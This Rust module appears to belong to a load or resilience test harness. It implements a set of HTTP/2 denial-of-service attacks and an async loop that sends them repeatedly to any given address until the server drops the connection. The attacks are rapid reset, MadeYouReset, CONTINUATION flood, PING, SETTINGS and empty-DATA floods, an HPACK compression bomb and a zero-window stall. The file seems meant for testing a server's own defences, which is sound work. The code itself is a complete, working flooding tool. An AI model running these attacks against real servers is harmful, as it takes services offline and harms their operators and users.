//! The attacks: what is sent on one connection.

use std::net::SocketAddr;
use std::time::Duration;

use tailor_harness::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, PING, SETTINGS, WINDOW_UPDATE,
    frame, get, head, post, reset,
};

/// A path that the host has a BFF for.
const PATH: &str = "/watch/ada?date=2026-01-15";
/// Streams of a batch.
const STREAMS: u32 = 20;
/// Frames of a batch of a flood.
const FRAMES: usize = 500;

/// An attack.
pub struct Attack {
    /// Its common name.
    pub name: &'static str,
    settings: &'static [u8],
    /// The first bytes.
    first: fn() -> Vec<u8>,
    /// The repeated batch; its number gives it streams of its own.
    batch: fn(u32) -> Vec<u8>,
    /// Until the next batch.
    pause: Duration,
}

const fn flood(name: &'static str, batch: fn(u32) -> Vec<u8>) -> Attack {
    Attack {
        name,
        settings: &[],
        first: Vec::new,
        batch,
        pause: Duration::ZERO,
    }
}

/// All of them.
pub const ATTACKS: &[Attack] = &[
    flood("rapid reset", |batch| {
        streams(batch, |stream| [get(stream, PATH), reset(stream)].concat())
    }),
    Attack {
        pause: Duration::from_millis(20),
        ..flood("rapid reset, in small batches", |batch| {
            streams(batch, |stream| [get(stream, PATH), reset(stream)].concat())
        })
    },
    flood("MadeYouReset", |batch| {
        streams(batch, |stream| {
            let wrong = frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]);
            [post(stream, PATH), wrong].concat()
        })
    }),
    Attack {
        first: || frame(HEADERS, END_STREAM, 1, &head("GET", PATH)),
        ..flood("CONTINUATION flood", |_| {
            frame(CONTINUATION, 0, 1, &[0, 1, b'a', 0]).repeat(FRAMES)
        })
    },
    flood("PING flood", |_| frame(PING, 0, 0, &[7; 8]).repeat(FRAMES)),
    flood("SETTINGS flood", |_| {
        frame(SETTINGS, 0, 0, &[]).repeat(FRAMES)
    }),
    Attack {
        first: || post(1, PATH),
        ..flood("empty DATA", |_| frame(DATA, 0, 1, &[]).repeat(FRAMES))
    },
    flood("HPACK bomb", |batch| {
        streams(batch, |stream| {
            let flags = END_STREAM | END_HEADERS;
            frame(HEADERS, flags, stream, &bomb())
        })
    }),
    Attack {
        // INITIAL_WINDOW_SIZE = 0: no answer may be sent.
        settings: &[0, 4, 0, 0, 0, 0],
        first: || {
            (0..100)
                .flat_map(|stream| get(stream * 2 + 1, PATH))
                .collect()
        },
        pause: Duration::from_millis(200),
        ..flood("zero window", |_| Vec::new())
    },
];

fn streams(batch: u32, each: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let numbers = (0..STREAMS).map(|stream| (batch * STREAMS + stream) * 2 + 1);
    let pieces: Vec<Vec<u8>> = numbers.map(each).collect();
    pieces.concat()
}

/// A field of 3,000 bytes, added to the table once and referenced thousands of times.
fn bomb() -> Vec<u8> {
    const LENGTH: usize = 3000;
    let mut fields = head("GET", "/");
    // A length beyond 7 bits goes on in groups of 7 bits (RFC 7541 section 5.1).
    let rest = LENGTH - 127;
    let low = u8::try_from(rest % 128).unwrap_or(0) | 0x80;
    let high = u8::try_from(rest / 128).unwrap_or(0);
    fields.extend([0x40, 1, b'a', 0x7f, low, high]);
    fields.extend([b'a'; LENGTH]);
    fields.extend([0xbe; 10_000]);
    fields
}

impl Attack {
    /// Attacks on one connection until the host ends it.
    pub async fn once(&self, address: SocketAddr) {
        let Ok(mut wire) = Frames::with_settings(address, self.settings).await else {
            return;
        };
        let mut open = wire.send(&(self.first)()).await;
        let mut batch = 0;
        while open {
            open = wire.send(&(self.batch)(batch)).await && wire.skip();
            // Stream numbers have an end.
            batch = (batch + 1) % 10_000_000;
            tokio::task::yield_now().await;
            if !self.pause.is_zero() {
                tokio::time::sleep(self.pause).await;
            }
        }
    }
}
